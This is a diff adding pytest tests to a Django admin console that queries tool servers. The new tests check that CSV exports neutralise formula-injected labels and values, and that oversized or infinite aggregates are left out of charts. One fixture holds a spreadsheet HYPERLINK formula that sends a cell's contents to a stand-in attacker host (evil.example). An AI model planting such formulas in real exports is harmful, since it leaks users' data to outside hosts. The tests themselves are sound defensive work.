@@ -6,8 +6,10 @@ user's bearer. Everything is real HTTP on 127.0.0.1; the canary token is looked 
 place it could land: the page, the console history, the pins, the audit log, kb_ask's output.
 """
 
+import csv
 import io
 import json
+import re
 import time
 
 import pytest
@@ -145,6 +147,69 @@ def test_an_echoed_bearer_in_a_tool_error_is_not_kept(fault, rogue, superuser):
     assert turn.status == "tool_error"
     assert turn.message == "denied for Bearer [redacted]"
     assert_no_canary(page, turn.message)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"open")'
+
+
+def test_a_hostile_column_label_reaches_the_csv_as_text_not_a_formula(fault, rogue, superuser):
+    def tools_call(recorded, message):
+        answer = kb_answer(3)
+        answer["columns"] = [
+            {"name": "customer_id", "label": FORMULA},
+            {"name": "name", "label": "@SUM(1+1)"},
+        ]
+        answer["rows"][0]["name"] = "+1-2"
+        return Reply.json(result(message["id"], {"content": [], "structuredContent": answer}))
+
+    fault.on("tools/call", tools_call)
+    console_post(
+        superuser, server=rogue.server_id, one_time_bearer=CANARY, prompt=PROMPT, action="call"
+    )
+    (turn,) = ConsoleTurn.objects.filter(user=superuser)
+    browser = Client()
+    browser.force_login(superuser)
+    response = browser.get(f"/admin/registry/consoleturn/{turn.pk}/csv/")
+    assert response.status_code == 200
+    header, first, *_ = csv.reader(io.StringIO(response.content.decode().lstrip("\ufeff")))
+    assert header == ["'" + FORMULA, "'@SUM(1+1)"]
+    assert first[1] == "'+1-2"  # the same rule as every other cell
+
+
+def grouped_answer(figures: list[str]) -> bytes:
+    """A grouped answer whose aggregates are these JSON number texts, as a tools/call result."""
+    rows = ", ".join(f'{{"grade": "G{n}", "total": {figure}}}' for n, figure in enumerate(figures))
+    answer = (
+        '{"columns": [{"name": "grade", "label": "등급"}, {"name": "total", "label": "합계"}],'
+        f' "rows": [{rows}], "row_count": {len(figures)}, "truncated": false, "limit": 10,'
+        ' "masked_columns": [], "interpretation": {"summary": "등급별 합계", "plan":'
+        ' {"entity": "customers", "group_by": ["grade"], "aggregates": [{"as": "total"}]}}}'
+    )
+    return '{"jsonrpc": "2.0", "id": {id}, "result": {"content": [], "structuredContent": ' + (
+        answer + "}}"
+    )
+
+
+@pytest.mark.parametrize("kind", ["bars", "line"])
+def test_huge_and_endless_aggregates_are_left_out_of_the_chart_not_a_500(
+    fault, rogue, superuser, kind
+):
+    figures = ["1" + "0" * 400, "-" + "1" * 400, "1e400", "2.5e308", "12"]
+    template = grouped_answer(figures)
+    if kind == "line":
+        template = template.replace('"grade"', '"joined_on"').replace('"G', '"2026-0')
+
+    def tools_call(recorded, message):
+        body = template.replace("{id}", str(message["id"]))
+        return Reply(200, {"Content-Type": "application/json"}, body.encode())
+
+    fault.on("tools/call", tools_call)
+    page = console_post(
+        superuser, server=rogue.server_id, one_time_bearer=CANARY, prompt=PROMPT, action="call"
+    )
+    (turn,) = ConsoleTurn.objects.filter(user=superuser)
+    assert turn.status == "ok", turn.message
+    assert re.findall(r'data-value="([^"]*)"', page) == ["12"]  # the one drawable figure
 
 
 def test_kb_ask_prints_no_echoed_bearer(fault, rogue, settings, tmp_path, committed_db):
